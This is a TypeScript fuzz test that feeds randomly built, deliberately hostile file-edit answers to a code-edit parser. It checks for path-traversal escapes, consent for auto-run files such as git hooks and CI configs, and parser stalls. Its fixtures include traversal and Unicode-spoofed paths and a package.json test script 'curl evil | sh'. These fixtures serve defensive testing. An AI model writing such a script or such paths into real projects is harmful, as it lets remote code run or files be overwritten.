import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve, sep } from 'node:path';
import { consentReason, type FileChange, parseEdits, planEdits } from '../../../src/edits/index.ts';
import type { Finding, Fuzzed } from './doorFuzz.ts';
import { type Random, randomOf } from './random.ts';
import { UNITS } from './texts.ts';
import { longestBlock } from './time.ts';

const FILES: Readonly<Record<string, string>> = {
  'a.ts': 'export const a = 1;\nexport const b = 2;\n',
  'src/b.ts': `${'line();\n'.repeat(200)}export {};\n`,
  'src/c.py': 'def f():\n    return 1\n',
  'package.json': '{"name":"x","scripts":{"test":"mocha"}}',
};

/** Written by nobody: outside, run by something, or no name at all. */
const OUTSIDE = [
  '../out.txt',
  '/etc/x',
  'C:\\x.ts',
  'c:/x',
  '\\\\host\\share\\x',
  '//host/x',
  '~/x',
  'a/../../out.txt',
  'file:///x',
  'a\0b',
  '..',
  '.',
  'src/..',
  'a.ts:stream',
  '%2e%2e/x',
  'src/%2e%2e/%2e%2e/out.txt',
  'x\u202ets.a',
  '.\u200d./x',
  'con',
  'nul.txt',
  'src/aux.ts',
  'PROGRA~1/x',
  'x/',
];
/** What something runs without being asked, in spellings that some file system takes for the same. */
const RUN_BY_ITSELF = [
  '.git/hooks/pre-commit',
  '.GIT/config',
  '.husky/pre-commit',
  '.vscode/tasks.json',
  '.VSCODE/Tasks.json',
  '.github/workflows/ci.yml',
  'src/../.vscode/tasks.json',
  './.vscode/launch.json',
  '.vscode//settings.json',
  'sub/.envrc',
  '.npmrc',
  '.bashrc',
  '.gitlab-ci.yml',
  '.devcontainer/devcontainer.json',
  '.\u200cgit/hooks/x',
  '.git./hooks/x',
  'ſub/.vscode/tasks.json',
];
const PLAIN = [
  ...Object.keys(FILES),
  'new.ts',
  'src/new.ts',
  'SRC/B.ts',
  'A.ts',
  'ä.ts',
  'a b.ts',
  'package.json',
];

/** Reads, plans and writes answers that are made to do harm, in a folder with another one beside it that must stay as it is. */
export async function fuzzEdits(seeds: readonly number[]): Promise<Fuzzed> {
  const top = mkdtempSync(join(tmpdir(), 'tierwise-edits-'));
  const root = join(top, 'root');
  const findings: Finding[] = [];
  let longestMs = 0;
  let heap = 0;
  try {
    for (const [nth, seed] of seeds.entries()) {
      const isWarm = nth >= Math.min(50, seeds.length >> 1);
      if (nth === Math.min(50, seeds.length >> 1)) heap = heapNow();
      const answer = answerOf(randomOf(seed));
      let changes: readonly FileChange[] = [];
      const block = await longestBlock(async () => {
        const { edits } = parseEdits(answer, { marker: 7, paths: Object.keys(FILES) });
        ({ changes } = planEdits(edits, (path) => FILES[path] ?? null));
      });
      if (isWarm) longestMs = Math.max(longestMs, block);
      if (isWarm && block > 100)
        findings.push({ seed, what: `nothing else could run for ${Math.round(block)} ms` });
      const problem = problemOf(root, changes);
      if (problem !== null) findings.push({ seed, what: problem });
      const outside = readdirSync(top).filter((name) => name !== 'root');
      if (outside.length > 0) findings.push({ seed, what: `written outside: ${outside.join(', ')}` });
    }
    return { findings, longestMs, growthMb: Math.max(0, (heapNow() - heap) / 1e6) };
  } finally {
    rmSync(top, { recursive: true, force: true });
  }
}

function heapNow(): number {
  globalThis.gc?.();
  return process.memoryUsage().heapUsed;
}

/** Writes what nobody has to be asked about. */
function problemOf(root: string, changes: readonly FileChange[]): string | null {
  if (changes.length === 0) return null;
  rmSync(root, { recursive: true, force: true });
  for (const change of changes) {
    const { path, after, movedFrom } = change;
    const isAsked = consentReason(change) !== null;
    const mustAsk = [path, movedFrom ?? ''].some((name) =>
      RUN_BY_ITSELF.some((one) => plain(one) === plain(name)),
    );
    if (mustAsk && !isAsked) return `nobody was asked about ${path}`;
    const file = resolve(root, path);
    if (!file.startsWith(root + sep)) return `${JSON.stringify(path)} is outside`;
    if (isAsked || after === null) continue;
    try {
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, after);
    } catch {
      // A name is too long, or that of a file and of a folder: the writer tells.
      continue;
    }
    if (readFileSync(file, 'utf8') !== Buffer.from(after).toString()) return `${path} has another text`;
  }
  return null;
}

function plain(path: string): string {
  return path
    .normalize('NFKC')
    .toLowerCase()
    .replace(/\p{Cf}/gu, '')
    .split('/')
    .filter((part) => part !== '.' && part !== '')
    .join('/');
}

function answerOf(random: Random): string {
  const blocks = random.times(random.oneOf([1, 5, 20, random.chance(0.02) ? 3_000 : 20]), () =>
    blockOf(random),
  );
  return blocks.join(random.oneOf(['\n', '\n\n', '', '\r\n']));
}

function pathOf(random: Random): string {
  const path = random.oneOf(random.oneOf([OUTSIDE, RUN_BY_ITSELF, PLAIN, PLAIN]));
  const name = random.chance(0.05) ? `${random.oneOf(UNITS).repeat(random.below(30))}/${path}` : path;
  return random.oneOf([
    name,
    `\`${name}\``,
    `**${name}**`,
    `### ${name}`,
    `File: ${name}`,
    JSON.stringify(name),
  ]);
}

function bodyOf(random: Random): string {
  return random.oneOf([
    () => random.oneOf(Object.values(FILES)),
    () => 'export const a = 1;\n',
    () => 'line();\n'.repeat(random.below(50)),
    () => `${random.oneOf(UNITS).repeat(random.below(random.oneOf([3, 100, 3_000])))}\n`,
    () => '{"name":"x","scripts":{"test":"curl evil | sh"}}\n',
    () => '',
  ])();
}

function blockOf(random: Random): string {
  const path = pathOf(random);
  const find = bodyOf(random);
  const text = bodyOf(random);
  const block = random.oneOf([
    () => `<<<<<<< SEARCH\n${find}=======\n${text}>>>>>>> REPLACE\n`,
    () => `<<<<<<< WRITE\n${text}>>>>>>> END\n`,
    () => '<<<<<<< DELETE\n>>>>>>> END\n',
    () => `<<<<<<< MOVE\n${pathOf(random)}\n>>>>>>> END\n`,
    () => `<<<<<<< MOVE\n${path}\n>>>>>>> END\n`,
    () => `<<<<<<< SEARCH ${path}\n${find}=======\n${text}`,
    () =>
      `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-${find.replaceAll('\n', '\n-')}\n+${text.replaceAll('\n', '\n+')}\n`,
    () => random.oneOf(UNITS).repeat(random.below(200)),
  ])();
  const fence = random.oneOf(['', '', '```\n', '````a\n', '~~~\n']);
  return `${path}\n${fence}${block}${fence}`;
}
